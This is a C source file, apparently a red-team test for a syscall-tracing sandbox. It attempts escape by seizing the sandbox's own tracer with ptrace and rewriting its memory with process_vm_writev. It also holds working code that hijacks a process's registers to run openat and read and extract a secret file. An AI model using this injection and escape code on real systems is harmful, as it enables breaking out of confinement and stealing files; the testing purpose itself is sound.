/* debug_tracer.c: red team 45 -- the tracer itself reached by a debug call a rule permits.
 *
 * A policy may name the unsafe debug calls (`ptrace`, `process_vm_readv`,
 * `process_vm_writev`: docs/policy.md's "gdb needs ptrace" example).  Under systrace they
 * can reach no task of the tree (each is traced already: EPERM), but they reach processes
 * outside it -- and the tracer is one: the task that traces us is /proc/self/status's
 * TracerPid.  Root (CAP_SYS_PTRACE) passes over its non-dumpable flag.
 *
 *   debug_tracer MODE SECRET
 *
 * MODE:
 *   ptrace          PTRACE_SEIZE the TracerPid: ESCAPED when it is ours.  (Driving it
 *                   from there deadlocks: see by_ptrace.)
 *   vmwrite         process_vm_readv / process_vm_writev the TracerPid's stack (its
 *                   /proc/PID/stat kstkesp, else its maps): the same bytes written back --
 *                   the tracer's memory is ours to rewrite.
 *   native-ptrace, native-vmwrite
 *                   the controls, against a child of ours that waits in a call (a
 *                   stand-in for the tracer, which natively does not exist): the seized
 *                   child is stopped (PTRACE_INTERRUPT) and made to run openat(SECRET) and
 *                   read() from its own `syscall` instruction (PTRACE_SINGLESTEP), the
 *                   bytes read back with PTRACE_PEEKDATA -- what a seize gives -- and the
 *                   same bytes of its stack written back with process_vm_writev.
 *
 * Only calls the prefilter lets run without a stop are made while the tracer is stopped
 * (ptrace, wait4, write), else we would wait for ever on our own tracer.
 */
#include "attack.h"

#include <sys/ptrace.h>
#include <sys/uio.h>
#include <sys/user.h>

static pid_t stand_in_pid;

static void end_stand_in(void) {
    if (stand_in_pid > 0)
        kill(stand_in_pid, SIGKILL);
}

static pid_t stand_in(void) {
    pid_t child = fork();
    stand_in_pid = child;
    atexit(end_stand_in);
    if (child == 0) {
        for (;;)
            pause();
    }
    usleep(100000);
    return child;
}

/* Until the target is in a ptrace stop of ours: PTRACE_GETSIGINFO answers ESRCH while it
 * runs.  (wait4 would stop for our own tracer -- the target, stopped: no wait.) */
static int wait_stopped(pid_t pid) {
    siginfo_t info;
    for (long i = 0; i < 200000000L; i++)
        if (ptrace(PTRACE_GETSIGINFO, pid, 0, &info) == 0)
            return 0;
    return -1;
}

/* Run one call in the stopped target from its `syscall` at `insn`: its result. */
static long inject(pid_t pid, const struct user_regs_struct *saved, unsigned long insn,
                   long nr, long a0, long a1, long a2) {
    struct user_regs_struct r = *saved;
    r.rip = insn;
    r.rax = (unsigned long)nr;
    r.orig_rax = (unsigned long)-1;
    r.rdi = (unsigned long)a0;
    r.rsi = (unsigned long)a1;
    r.rdx = (unsigned long)a2;
    if (ptrace(PTRACE_SETREGS, pid, 0, &r) < 0)
        return -1000 - errno;
    if (ptrace(PTRACE_SINGLESTEP, pid, 0, 0) < 0)
        return -2000 - errno;
    if (wait_stopped(pid) < 0)
        return -3000;
    if (ptrace(PTRACE_GETREGS, pid, 0, &r) < 0)
        return -4000 - errno;
    return (long)r.rax;
}

static void poke_bytes(pid_t pid, unsigned long at, const void *data, size_t len) {
    for (size_t i = 0; i < len; i += 8) {
        long word = 0;
        memcpy(&word, (const char *)data + i, len - i < 8 ? len - i : 8);
        ptrace(PTRACE_POKEDATA, pid, at + i, word);
    }
}

static void by_ptrace(pid_t pid, const char *secret, int ours) {
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
        blocked("PTRACE_SEIZE of %d: %s", pid, ename(errno));
    if (ours)
        /* Our own tracer is ours now.  Its next ptrace stop (the SIGCHLD our next stopping
         * call sends it: ptrace itself stops, for the rule's permit) waits for us, who wait
         * for it: the run would hang.  So stop here -- our exit detaches it; the control
         * shows what the seize gives (the secret, read by the seized process). */
        escaped("PTRACE_SEIZE of our own tracer %d succeeded (it is ours to drive)", pid);
    if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) < 0)
        blocked("PTRACE_INTERRUPT of %d: %s", pid, ename(errno));
    if (wait_stopped(pid) < 0) {
        ptrace(PTRACE_DETACH, pid, 0, 0);
        blocked("%d never stopped", pid);
    }
    struct user_regs_struct saved;
    if (ptrace(PTRACE_GETREGS, pid, 0, &saved) < 0)
        blocked("GETREGS of %d: %s", pid, ename(errno));
    errno = 0;
    long code = ptrace(PTRACE_PEEKTEXT, pid, saved.rip - 2, 0);
    if ((code & 0xffff) != 0x050f) {
        ptrace(PTRACE_DETACH, pid, 0, 0);
        blocked("%d is stopped at %llx, after no syscall instruction", pid, saved.rip);
    }
    unsigned long insn = saved.rip - 2;
    unsigned long path = (saved.rsp - 8192) & ~15UL, buf = path - 4096;
    char data[4096];
    unsigned long words[512];
    size_t plen = strlen(secret) + 1;
    /* (keep what we write over, below its red zone, and put it back) */
    for (size_t i = 0; i < sizeof words / sizeof *words; i++)
        words[i] = (unsigned long)ptrace(PTRACE_PEEKDATA, pid, buf + 8 * i, 0);
    poke_bytes(pid, path, secret, plen);
    long fd = inject(pid, &saved, insn, SYS_openat, AT_FDCWD, (long)path, O_RDONLY);
    long n = -1;
    if (fd >= 0) {
        n = inject(pid, &saved, insn, SYS_read, fd, (long)buf, 256);
        for (long i = 0; i < n && i < 256; i += 8) {
            long word = ptrace(PTRACE_PEEKDATA, pid, buf + (unsigned long)i, 0);
            memcpy(data + i, &word, 8);
        }
        inject(pid, &saved, insn, SYS_close, fd, 0, 0);
    }
    for (size_t i = 0; i < sizeof words / sizeof *words; i++)
        ptrace(PTRACE_POKEDATA, pid, buf + 8 * i, words[i]);
    ptrace(PTRACE_SETREGS, pid, 0, &saved);
    ptrace(PTRACE_DETACH, pid, 0, 0);
    if (fd < 0)
        blocked("the openat %d ran for us returned %ld", pid, fd);
    if (n > 0) {
        data[n < 256 ? n : 255] = 0;
        if (strstr(data, SECRET_MAGIC))
            escaped("task %d read the secret for us through ptrace: %.40s", pid, data);
    }
    blocked("task %d opened it (fd %ld) but read gave %ld", pid, fd, n);
}

static void by_vm(pid_t pid) {
    unsigned long at = stack_of(pid);
    if (!at)
        blocked("no stack of %d found (its maps: %s)", pid, ename(errno));
    char bytes[64];
    struct iovec local = {bytes, sizeof bytes}, remote = {(void *)at, sizeof bytes};
    if (process_vm_readv(pid, &local, 1, &remote, 1, 0) != (ssize_t)sizeof bytes)
        note("process_vm_readv of %d: %s", pid, ename(errno));
    ssize_t n = process_vm_writev(pid, &local, 1, &remote, 1, 0);
    if (n == (ssize_t)sizeof bytes)
        escaped("process_vm_writev wrote %zd bytes of task %d's stack", n, pid);
    blocked("process_vm_writev of %d: %s", pid, ename(errno));
}

int main(int argc, char **argv) {
    if (argc != 3)
        usage("debug_tracer ptrace|vmwrite|native-ptrace|native-vmwrite SECRET");
    const char *mode = argv[1], *secret = argv[2];
    int native = strncmp(mode, "native-", 7) == 0;
    if (native)
        mode += 7;
    int fd = open(secret, O_RDONLY);
    if (fd >= 0 && !native)
        escaped("the secret opened directly");
    note("our own open of the secret: %s", fd >= 0 ? "opened" : ename(errno));
    if (fd >= 0)
        close(fd);
    pid_t pid = native ? stand_in() : tracer_pid();
    if (pid <= 0)
        skipped("no tracer to aim at");
    if (strcmp(mode, "ptrace") == 0)
        by_ptrace(pid, secret, !native);
    if (strcmp(mode, "vmwrite") == 0)
        by_vm(pid);
    usage("unknown mode");
}
